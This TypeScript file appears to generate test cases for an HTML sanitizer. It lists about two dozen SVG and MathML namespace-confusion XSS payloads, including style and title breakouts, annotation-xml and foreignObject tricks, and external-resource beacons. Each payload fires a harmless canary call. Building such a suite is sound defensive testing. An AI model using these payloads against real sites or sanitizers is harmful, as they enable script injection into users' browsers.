import { casesOf } from '../article-page';
import { beaconUrl, canaryCall, imageUrl } from '../canary';
import type { PayloadSpec } from '../types';

/**
 * SVG and MathML namespace confusion: markup whose elements change namespace (and so change how
 * their content parses) between the sanitizer's parse and the parse of its output. The classic
 * pivot is an element that is raw text in HTML (`style`, `title`, `noscript`, `xmp`...) but has
 * element children in SVG/MathML, or an HTML "breakout" tag that ends foreign content.
 */
function specs(): PayloadSpec[] {
  const list: PayloadSpec[] = [];
  const add = (suffix: string, vector: string, body: (code: string, id: string) => string) => {
    const id = `ns-${suffix}`;
    list.push({ id, vector, body: body(canaryCall(id), id) });
  };
  const img = (code: string) => `<img src="${imageUrl('ns.jpg')}" onerror="${code}">`;
  add('svg-style-img', 'img inside SVG <style> (elements in SVG, text in HTML)', (c) => `<svg><style><img src="${imageUrl('x.jpg')}" onerror="${c}"></style></svg>`);
  add('math-style-img', 'img inside MathML <style>', (c) => `<math><style><img src="${imageUrl('x.jpg')}" onerror="${c}"></style></math>`);
  add('svg-title-breakout', 'SVG <title> closing early into HTML', (c) => `<svg><title><style><a title="</style>${img(c)}"></a></style></title></svg>`);
  add('svg-p-breakout', 'HTML <p> ending SVG content', (c) => `<svg><p><style><a title="</style>${img(c)}"></a></style></p></svg>`);
  add('svg-font-breakout', '<font color> ending SVG content', (c) => `<svg><font color="red"><style><a title="</style>${img(c)}"></a></style></font></svg>`);
  add('svg-end-p', '</p> inside SVG creating an HTML p', (c) => `<svg></p><style><a title="</style>${img(c)}"></a></style></svg>`);
  add('math-mtext-table', 'table inside mtext re-parented on reparse', (c) => `<math><mtext><table><mglyph><style><img src="${imageUrl('y.jpg')}" onerror="${c}"></style></table></mtext></math>`);
  add('math-mi-mglyph', 'mglyph under mi switching namespace', (c) => `<math><mi><mglyph><svg><mtext><style><a title="</style>${img(c)}"></a></style></mtext></svg></mglyph></mi></math>`);
  add('math-annotation-html', 'annotation-xml as an HTML integration point', (c) => `<math><annotation-xml encoding="text/html"><style><img src="${imageUrl('z.jpg')}" onerror="${c}"></style></annotation-xml></math>`);
  add('math-annotation-xhtml', 'annotation-xml encoding=application/xhtml+xml', (c) => `<math><annotation-xml encoding="application/xhtml+xml"><img src="${imageUrl('z.jpg')}" onerror="${c}"></annotation-xml></math>`);
  add('math-annotation-mixed-case', 'mixed-case ANNOTATION-XML and encoding', (c) => `<math><ANNOTATION-XML encoding="Text/HTML"><style><img src="${imageUrl('z.jpg')}" onerror="${c}"></style></ANNOTATION-XML></math>`);
  add('svg-annotation-xml', 'annotation-xml under svg', (c) => `<svg><annotation-xml encoding="text/html"><img src="${imageUrl('z.jpg')}" onerror="${c}"></annotation-xml></svg>`);
  add('svg-foreignobject-html', 'HTML inside SVG foreignObject', (c) => `<svg><foreignObject><img src="${imageUrl('fo.jpg')}" onerror="${c}"></foreignObject></svg>`);
  add('svg-foreignobject-math', 'math inside foreignObject inside svg', (c) => `<svg><foreignObject><math><mtext><style><a title="</style>${img(c)}"></a></style></mtext></math></foreignObject></svg>`);
  add('svg-desc-style', 'style in SVG desc', (c) => `<svg><desc><style><a title="</style>${img(c)}"></a></style></desc></svg>`);
  add('math-in-svg', 'math nested in svg nested in math', (c) => `<math><mtext><svg><math><mi><style><a title="</style>${img(c)}"></a></style></mi></math></svg></mtext></math>`);
  add('svg-cdata-breakout', 'CDATA section hiding markup in SVG', (c) => `<svg><![CDATA[><img src="${imageUrl('cd.jpg')}" onerror="${c}">]]></svg>`);
  add('svg-xmlns-html', 'xmlns attribute claiming the XHTML namespace', (c) => `<svg xmlns="http://www.w3.org/1999/xhtml"><img src="${imageUrl('ns.jpg')}" onerror="${c}"></svg>`);
  add('svg-image-beacon', 'SVG <image> loading from the attacker', (_c, id) => `<svg width="10" height="10"><image href="${beaconUrl(id, 'svg-image')}" width="10" height="10"/></svg>`);
  add('svg-feimage-beacon', 'SVG filter feImage loading from the attacker', (_c, id) => `<svg width="10" height="10"><filter id="f"><feImage href="${beaconUrl(id, 'feimage')}"/></filter><rect width="10" height="10" filter="url(#f)"/></svg>`);
  add('svg-use-external', 'SVG <use> of an external document', (_c, id) => `<svg><use href="${beaconUrl(id, 'use.svg')}#a"/></svg>`);
  add('math-maction-onclick', 'MathML maction with handler', (c) => `<math><maction actiontype="toggle" onmouseover="${c}" style="position:fixed;inset:0"><mi>a</mi><mi>b</mi></maction></math>`);
  add('template-in-svg', 'template inside svg', (c) => `<svg><template><style><a title="</style>${img(c)}"></a></style></template></svg>`);
  add('noscript-in-math', 'noscript inside mtext', (c) => `<math><mtext><noscript><style><a title="</noscript>${img(c)}"></a></style></noscript></mtext></math>`);
  return list;
}

export const namespaceCases = casesOf('namespace', specs());
